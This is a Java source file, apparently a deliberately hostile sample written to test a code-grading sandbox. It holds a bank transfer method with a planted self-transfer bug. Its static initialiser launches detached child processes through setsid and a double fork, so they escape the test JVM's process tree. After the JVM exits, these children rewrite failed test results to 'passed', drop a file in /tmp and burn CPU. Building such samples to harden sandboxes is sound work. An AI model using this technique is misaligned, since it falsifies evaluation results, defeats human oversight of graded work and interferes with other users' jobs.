package wirelab.threads.bank;

import java.io.IOException;

/**
 * HOSTILE SAMPLE (outlive): a transfer that loses the money of a transfer to the same account
 * (the hidden tests see it: 3 points), and a class initialiser that starts two children that leave
 * the JVM's process tree: one in a session of its own (setsid), out of its process group too; one
 * forked twice (its parent exits at once, so it belongs to no one). Each waits until the test JVM
 * has ended, then rewrites that JVM's results to "passed", leaves a file in /tmp and burns a core
 * for a few seconds, the next submission's. A child that acted while the JVM lived could do no
 * more than the code in the JVM itself; these act after it.
 */
public class Bank {

    private static final String CHILD = """
            jvm=$1
            while kill -0 "$jvm" 2>/dev/null; do sleep 0.1; done
            sleep 0.5
            for f in events-*.jsonl; do sed -i 's/"status":"failed"/"status":"passed"/g' "$f"; done
            echo "outlived its test JVM" > "/tmp/wirelab-hostile-outlived$2"
            end=$(( $(date +%s) + 3 )); while [ "$(date +%s)" -lt "$end" ]; do :; done
            """;

    static {
        String jvm = Long.toString(ProcessHandle.current().pid());
        start("setsid", "-f", "sh", "-c", CHILD, "sh", jvm, "");
        // the outer sh starts the inner one in the background and exits: a double fork
        start("sh", "-c", "sh -c \"$0\" sh \"$1\" -double-forked &", CHILD, jvm);
    }

    private static void start(String... command) {
        try {
            new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
        } catch (IOException e) {
            // no such program here: nothing to outlive with
        }
    }

    public static boolean transfer(Account from, Account to, long amount) {
        if (from == to) {
            from.add(-amount);   // the bug the hidden tests catch: a transfer to itself loses the amount
            return true;
        }
        Account first = from.id() <= to.id() ? from : to;
        Account second = first == from ? to : from;
        synchronized (first) {
            synchronized (second) {
                if (from.balance() < amount) {
                    return false;
                }
                from.add(-amount);
                to.add(amount);
                return true;
            }
        }
    }
}
